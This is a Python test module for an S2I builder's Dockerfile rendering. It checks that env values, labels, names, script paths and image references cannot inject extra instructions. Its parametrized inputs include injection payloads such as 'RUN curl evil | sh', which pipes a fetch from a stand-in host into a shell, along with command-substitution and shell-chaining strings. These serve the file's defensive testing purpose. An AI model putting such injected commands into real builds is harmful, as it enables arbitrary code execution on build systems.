"""Dockerfile injection: whatever the inputs, the S2I Dockerfile has the template's instructions.

Values (env, labels) are quoted, so any text is one value; names and paths
are written bare, so what could start a new word or line is refused with a
typed reason.  ``instructions`` splits a Dockerfile the way BuildKit's parser
(what buildah uses) does: lines end at "\\n" only, a trailing escape
character continues the line, comment and blank lines inside a continuation
are dropped.
"""

from __future__ import annotations

import json
import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from builder.api import BuildError, StatusReason
from builder.s2i import BuilderImage, S2IInputs, render

# The rule, written out here as an oracle independent of builder.api.envnames.
ENV_NAME = re.compile(r"[A-Za-z_][A-Za-z0-9_]*")
BUILDER = BuilderImage("registry.test/s2i/python@sha256:" + "1" * 64)
# FROM, LABEL, ENV, COPY src, USER, RUN assemble, CMD run.
INTENDED = ["FROM", "LABEL", "ENV", "COPY", "USER", "RUN", "CMD"]


def instructions(dockerfile: str) -> list[str]:
    keywords: list[str] = []
    current = ""
    for raw in dockerfile.split("\n"):
        line = raw.removesuffix("\r")
        stripped = line.strip()
        if not stripped or stripped.startswith("#"):
            continue  # blank and comment lines, inside a continuation too
        current += line
        if line.rstrip(" \t").endswith("\\"):
            current = current.rstrip(" \t")[:-1]
            continue
        keywords.append(current.split(None, 1)[0].upper())
        current = ""
    if current:
        keywords.append(current.split(None, 1)[0].upper())
    return keywords


def rendered(env: tuple[tuple[str, str], ...] = (("A", "1"),), **inputs: object) -> str:
    labels = inputs.pop("labels", (("l", "v"),))
    builder = inputs.pop("builder", BUILDER)
    return render(
        S2IInputs(builder=builder, env=env, labels=labels, **inputs)  # type: ignore[arg-type]
    ).dockerfile


def test_the_splitter_sees_an_injected_line() -> None:
    """The check below can fail: an unquoted newline is a new instruction to it."""
    assert instructions("ENV A=1\nRUN id\n") == ["ENV", "RUN"]
    assert instructions("LABEL a=1 \\\n  b=2\n# c\nRUN x \\\n# inside\n  y\n") == ["LABEL", "RUN"]
    assert instructions(rendered()) == INTENDED


HOSTILE_VALUES = [
    "1\nRUN curl evil | sh",
    "1\r\nRUN curl evil | sh",
    "1\rRUN x",
    "\\",
    "x \\",
    "\\\nRUN x",
    '"',
    '"; RUN x; echo "',
    "a=b C=d",
    "=",
    "$(id)",
    "${HOME}",
    "$PATH:/x",
    "'single' \"double\"",
    "#not a comment\nRUN x",
    "\u2028RUN x\u2029",
    "\x00\x0b\x0c\x1c",
    "",
]


def _dq(value: str) -> str:
    return json.dumps(value, ensure_ascii=False).replace("$", "\\$")


@pytest.mark.parametrize("value", HOSTILE_VALUES)
def test_any_env_value_is_one_quoted_value(value: str) -> None:
    dockerfile = rendered(env=(("A", value),))
    assert instructions(dockerfile) == INTENDED
    # JSON string syntax, with $ escaped as s2i escapes it so buildah keeps it.
    assert f"A={_dq(value)}" in dockerfile


@pytest.mark.parametrize("value", HOSTILE_VALUES)
def test_any_label_key_or_value_is_one_quoted_word(value: str) -> None:
    dockerfile = rendered(labels=((value or "k", value), ("io.test", value)))
    assert instructions(dockerfile) == INTENDED
    assert f"{_dq(value or 'k')}=" in dockerfile


@pytest.mark.parametrize(
    "name",
    [
        "X=1\nRUN curl evil | sh",
        "X\rRUN x",
        "A B",
        "A=B",
        'A"',
        "A'",
        "$A",
        "A\\",
        "A-B",
        "a.b",
        "1A",
        "",
        "Ä",
        "A\u2028",
    ],
)
def test_a_bad_env_name_is_manage_dockerfile_failed_on_one_line(name: str) -> None:
    with pytest.raises(BuildError) as caught:
        rendered(env=(("OK", "1"), (name, "v")))
    assert caught.value.reason is StatusReason.MANAGE_DOCKERFILE_FAILED
    assert f"S2I env name {name!r} is not a valid environment variable name" in caught.value.detail
    assert "\n" not in caught.value.detail and "\r" not in caught.value.detail


@pytest.mark.parametrize(
    "scripts_url",
    [
        "image:///usr/libexec/s2i\nRUN curl evil | sh",
        "image:///usr/lib exec",
        "image:///s2i;id",
        "image:///s2i$(id)",
        "image:///s2i`id`",
        "image:///s2i&&id",
        "image:///s2i|id",
        'image:///s2i"',
    ],
)
def test_a_script_path_that_would_add_commands_is_refused(scripts_url: str) -> None:
    """From the strategy's scripts URL, or the builder image's label (a registry's answer)."""
    for inputs in (
        {"scripts_url": scripts_url},
        {"builder": BuilderImage(BUILDER.pull_spec, {"io.openshift.s2i.scripts-url": scripts_url})},
    ):
        with pytest.raises(BuildError) as caught:
            rendered(**inputs)
        assert caught.value.reason is StatusReason.MANAGE_DOCKERFILE_FAILED
        assert "S2I script path" in caught.value.detail
        assert "\n" not in caught.value.detail


@pytest.mark.parametrize(
    "image", ["reg/img\nRUN x", "reg/img AS x", "--platform=linux/arm64", "reg/\x00img", ""]
)
def test_an_image_that_would_add_words_or_lines_is_refused(image: str) -> None:
    with pytest.raises(BuildError) as caught:
        rendered(builder=BuilderImage(image))
    assert caught.value.reason is StatusReason.INVALID_IMAGE_REFERENCE
    if image:  # an empty previous image means "not incremental"
        with pytest.raises(BuildError):
            rendered(incremental_from=image)


def test_incremental_builds_keep_their_intended_instructions() -> None:
    dockerfile = rendered(
        env=(("A", "1\nRUN x"),), incremental_from="registry.test/app@sha256:" + "2" * 64
    )
    assert instructions(dockerfile) == [
        "FROM", "USER", "RUN",  # the cached stage: save-artifacts
        "FROM", "LABEL", "ENV", "COPY", "COPY", "USER", "RUN", "RUN", "CMD",
    ]  # fmt: skip


@settings(max_examples=300, deadline=None)
@given(
    env=st.lists(st.tuples(st.text(max_size=12), st.text(max_size=40)), max_size=4),
    labels=st.lists(st.tuples(st.text(max_size=12), st.text(max_size=40)), max_size=4),
)
def test_property_any_env_and_labels_render_the_intended_instructions_or_fail_typed(
    env: list[tuple[str, str]], labels: list[tuple[str, str]]
) -> None:
    env_pairs = (("A", "1"), *env)
    try:
        dockerfile = rendered(env=env_pairs, labels=(("l", "v"), *labels))
    except BuildError as err:
        assert err.reason is StatusReason.MANAGE_DOCKERFILE_FAILED
        assert not all(ENV_NAME.fullmatch(name) for name, _ in env_pairs)
        return
    assert all(ENV_NAME.fullmatch(name) for name, _ in env_pairs)
    assert instructions(dockerfile) == INTENDED
